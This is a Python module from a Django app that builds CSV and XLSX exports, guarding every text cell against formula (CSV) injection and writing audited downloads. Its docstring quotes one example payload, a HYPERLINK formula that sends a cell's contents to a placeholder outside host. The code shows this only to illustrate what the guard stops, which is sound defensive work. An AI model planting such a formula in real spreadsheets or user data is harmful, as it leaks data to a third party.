"""The one export builder: every CSV and Excel file the product hands out is written here.

    header = [_("Id"), _("Name")]  # lazy or not: rendered in the viewer's language
    export = exports.csv_export(header, rows)  # or:
    book = exports.XlsxBook()
    sheet = book.sheet(_("Clients"))
    sheet.append(header, bold=True)
    sheet.append_rows(rows)
    export = book.export()
    return exports.audited_download(request, export, filename="clients-20260301",
                                    object_type="clientmgmt.client", object_repr="…", reason="…")

What it guarantees, so that no export has to remember it:

- **The formula guard** on every text cell (OWASP, "CSV injection"). A name typed as
  `=HYPERLINK("http://x.example/?"&A1,"点击")` on the public booking page stays text. In CSV a cell
  that begins with `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading single quote. In
  XLSX a string cell is written as text (never `data_type == "f"`) with Excel's hidden quote
  prefix, so the value is exactly what was typed and stays text even when someone edits the cell.
- **Translated headers and labels**: lazy translations (and any other lazy string) are rendered
  when the file is built, that is in the language of the request that asked for it.
- **UTF-8 with a BOM** for CSV (Excel opens Chinese correctly only with it); characters a
  workbook cannot hold (control characters) become U+FFFD instead of a server error.
- **The audited download**: `audited_download` writes the `export` audit row (with its reason,
  when the page asks for one) and returns the attachment.

Imports (reading uploaded files) are not here; `unguard` undoes the CSV guard for a file that
comes back.
"""

import csv
import io
from collections.abc import Iterable, Sequence
from dataclasses import dataclass

from django.http import HttpResponse
from django.utils.functional import Promise
from django.utils.http import content_disposition_header
from import_export.formats import base_formats

from . import audit

CSV_TYPE = "text/csv; charset=utf-8"
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
BOM = "\ufeff"

# What a spreadsheet reads as the start of a formula (OWASP: =, +, -, @, tab, carriage return).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# An Excel sheet title holds at most 31 characters.
SHEET_TITLE_LENGTH = 31


def plain(value):
    """A cell's value as a file holds it: lazy strings rendered now (the request's language)."""
    if isinstance(value, Promise):
        return str(value)
    return value


def looks_like_formula(value) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def guard(value):
    """A CSV cell: text that a spreadsheet would run as a formula gets a leading quote."""
    value = plain(value)
    if looks_like_formula(value):
        return "'" + value
    return value


def unguard(value):
    """The text `guard` was given, for a guarded CSV that is imported back."""
    if isinstance(value, str) and value.startswith("'") and looks_like_formula(value[1:]):
        return value[1:]
    return value


@dataclass(frozen=True)
class Export:
    """A built file: its bytes, its extension and its content type."""

    content: bytes
    extension: str
    content_type: str


# --- CSV ----------------------------------------------------------------------------------


def csv_text(rows: Iterable[Sequence]) -> str:
    """Rows (the header first) as CSV text with a BOM, every cell guarded."""
    buffer = io.StringIO()
    buffer.write(BOM)
    writer = csv.writer(buffer)
    writer.writerows([guard(cell) for cell in row] for row in rows)
    return buffer.getvalue()


def csv_export(header: Sequence, rows: Iterable[Sequence], *, footer: Iterable = ()) -> Export:
    """A table as a CSV file: the header, the rows, then any footer rows (a note)."""
    text = csv_text([header, *rows, *footer])
    return Export(text.encode("utf-8"), "csv", CSV_TYPE)


# --- XLSX ---------------------------------------------------------------------------------


def _xlsx_value(value):
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    value = plain(value)
    if isinstance(value, str):
        return ILLEGAL_CHARACTERS_RE.sub("\N{REPLACEMENT CHARACTER}", value)
    return value


class XlsxSheet:
    """One worksheet; every row goes through `append`, which keeps text as text."""

    def __init__(self, worksheet):
        self._sheet = worksheet

    def append(self, row: Sequence = (), *, bold: bool = False, size: int | None = None) -> None:
        """One row; `bold` (and `size`) style its cells, for titles and headers."""
        self._sheet.append([_xlsx_value(cell) for cell in row])
        if not row:
            return
        font = None
        if bold or size:
            from openpyxl.styles import Font

            font = Font(bold=bold, size=size)
        for cell in self._sheet[self._sheet.max_row]:
            if isinstance(cell.value, str):
                # openpyxl reads a string that starts with "=" as a formula: never here.
                cell.data_type = "s"
                if looks_like_formula(cell.value):
                    cell.quotePrefix = True  # Excel keeps it text even when the cell is edited
            if font is not None:
                cell.font = font

    def append_rows(self, rows: Iterable[Sequence]) -> None:
        for row in rows:
            self.append(row)

    def widths(self, widths: dict[str, float]) -> None:
        """Column widths by letter: {"A": 24, "B": 30}."""
        for column, width in widths.items():
            self._sheet.column_dimensions[column].width = width

    def freeze(self, cell: str) -> None:
        self._sheet.freeze_panes = cell


class XlsxBook:
    """A workbook of one or more sheets, in the order they are asked for."""

    def __init__(self):
        from openpyxl import Workbook

        self._book = Workbook()
        self._fresh = True  # the first sheet reuses the workbook's default one

    def sheet(self, title) -> XlsxSheet:
        title = str(plain(title))[:SHEET_TITLE_LENGTH]
        if self._fresh:
            self._fresh = False
            worksheet = self._book.active
            worksheet.title = title
        else:
            worksheet = self._book.create_sheet(title=title)
        return XlsxSheet(worksheet)

    def content(self) -> bytes:
        buffer = io.BytesIO()
        self._book.save(buffer)
        return buffer.getvalue()

    def export(self) -> Export:
        return Export(self.content(), "xlsx", XLSX_TYPE)


def xlsx_export(title, header: Sequence, rows: Iterable[Sequence]) -> Export:
    """A table as a one-sheet workbook, its header in bold."""
    book = XlsxBook()
    sheet = book.sheet(title)
    sheet.append(header, bold=True)
    sheet.append_rows(rows)
    return book.export()


# --- The download -------------------------------------------------------------------------


def attachment(export: Export, *, filename: str) -> HttpResponse:
    """The file as a download named `filename` plus its extension."""
    response = HttpResponse(export.content, content_type=export.content_type)
    response["Content-Disposition"] = f'attachment; filename="{filename}.{export.extension}"'
    return response


def private_download(
    data: bytes, *, content_type: str, filename: str, inline: bool
) -> HttpResponse:
    """A private file (zhongdu.private_files: a report attached to an exam result) handed to
    the one reader a view let through: shown in the browser (`inline`, an image or a PDF) or
    saved, under its name (RFC 6266, Chinese names too), never kept by any cache, its type not
    guessed by the browser. The view audits the read."""
    response = HttpResponse(data, content_type=content_type)
    response["Content-Disposition"] = content_disposition_header(not inline, filename)
    response["Cache-Control"] = "private, no-store"
    response["X-Content-Type-Options"] = "nosniff"
    return response


def audited_download(
    request,
    export: Export,
    *,
    filename: str,
    obj=None,
    object_type: str = "",
    object_id: str = "",
    object_repr: str = "",
    reason: str = "",
    username: str = "",
) -> HttpResponse:
    """The download of `export`, recorded in the audit trail as an export by the request's user
    (with the reason the page asked for, if any); `username` names who downloaded it when no
    staff user is signed in (a patient's own copy on the portal)."""
    audit.record(
        audit.Action.EXPORT,
        obj=obj,
        object_type=object_type,
        object_id=object_id,
        object_repr=object_repr,
        reason=reason,
        request=request,
        username=username,
    )
    return attachment(export, filename=filename)


# --- The admin's spreadsheets (django-import-export) --------------------------------------


class AdminCSV(base_formats.CSV):
    """import-export's CSV, written by this module (guard, BOM); a guarded cell that comes back
    is read as it was typed."""

    def export_data(self, dataset, **kwargs):
        return csv_text([dataset.headers or [], *dataset])

    def create_dataset(self, in_stream, **kwargs):
        dataset = super().create_dataset(in_stream, **kwargs)
        for index, row in enumerate(dataset):
            dataset[index] = [unguard(cell) for cell in row]
        return dataset


class AdminXLSX(base_formats.XLSX):
    """import-export's XLSX, written by this module (text stays text)."""

    def export_data(self, dataset, **kwargs):
        book = XlsxBook()
        sheet = book.sheet(dataset.title or "Sheet1")
        sheet.append(dataset.headers or [], bold=True)
        sheet.append_rows(dataset)
        sheet.freeze("A2")
        return book.content()
